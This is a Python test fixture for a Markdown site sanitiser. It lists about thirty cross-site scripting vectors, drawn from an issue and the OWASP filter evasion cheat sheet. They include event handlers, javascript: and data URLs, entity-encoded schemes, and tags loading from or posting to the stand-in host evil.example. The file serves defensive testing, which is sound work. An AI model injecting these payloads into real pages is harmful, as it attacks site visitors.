"""Hostile content: the vectors from issue 23 and more from the OWASP XSS
filter evasion cheat sheet, as an author (or a paste from another page)
could put them in a Markdown file. Each is one line of a page's body; every
one of them tries to show a dialog or to load something from evil.example."""
from __future__ import annotations

EVIL = "evil.example"

# (id, Markdown line)
BODY = [
    # issue 23
    ("attr-list-onclick", '[Läs mer om lösenord](https://www.polisen.se/){ onclick="alert(1)" }'),
    ("attr-list-onmouseover", 'Ett stycke text.\n{: onmouseover="alert(2)" }'),
    ("attr-list-href-javascript", '[Till polisen](https://www.polisen.se/){ href="javascript:alert(3)" }'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(4)"><text x="0" y="15">Tryck</text></a></svg>'),
    ("base-href", f'<base href="https://{EVIL}/">'),
    # A name alone is an attribute too: the sanitiser drops `data-dfs-offline`
    # (a hook of the site's own scripts), so the validator must name it first.
    ("valueless-script-hook", '<div class="dfs-offline" data-dfs-offline hidden>Spara</div>'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">'),
    ("object-data", f'<object data="https://{EVIL}/film.swf"></object>'),
    ("embed-src", f'<embed src="https://{EVIL}/film.swf">'),
    ("entity-javascript-markdown", "[Tryck här på länken](javascript&#58;alert(5))"),
    # OWASP XSS filter evasion cheat sheet
    ("img-onerror-unquoted", "<img src=x onerror=alert(6) alt=Bild>"),
    ("img-onerror-mixed-case", '<IMG SRC="x" oNeRrOr="alert(7)" alt="Bild">'),
    ("img-javascript-src", "<IMG SRC=\"javascript:alert('XSS');\" alt=\"Bild\">"),
    ("a-tab-in-scheme", '<a href="jav&#x09;ascript:alert(8)">Tryck på länken</a>'),
    ("a-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
                           '&#58;alert(9)">Tryck på länken</a>'),
    ("a-leading-space", '<a href=" javascript:alert(10)">Tryck på länken</a>'),
    ("a-data-url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">Öppna '
                   'filen</a>'),
    ("svg-slash-onload", "<svg/onload=alert(12)>"),
    ("details-ontoggle", "<details open ontoggle=alert(13)><summary>Mer</summary>Text</details>"),
    ("script-tag", "<script>alert(14)</script>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(15)</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(16)"></iframe>'),
    ("body-onload", "<body onload=alert(17)>"),
    ("input-autofocus", "<input onfocus=alert(18) autofocus>"),
    ("style-import", f"<style>@import url(https://{EVIL}/x.css);</style>"),
    ("link-stylesheet", f'<link rel="stylesheet" href="https://{EVIL}/x.css">'),
    ("form-action", f'<form action="https://{EVIL}/"><input name="svar"><button>Skicka</button></form>'),
    ("div-style-url", f'<div style="background:url(https://{EVIL}/bild.png)">Text</div>'),
    ("math-xlink", '<math><a xlink:href="javascript:alert(19)">Tryck</a></math>'),
    ("img-external", f'<img src="https://{EVIL}/spara.gif" alt="Bild" onload="alert(20)">'),
    ("reserved-id", '<div id="__config">{"search": "https://evil.example/w.js"}</div>'),
]

# (id, front-matter line): where Material prints them without escaping.
FRONT_MATTER = [
    ("title-img", 'title: "Starka <img src=x onerror=alert(21)> lösenord"'),
    ("description-breakout", "description: '\"><script>alert(22)</script>'"),
]
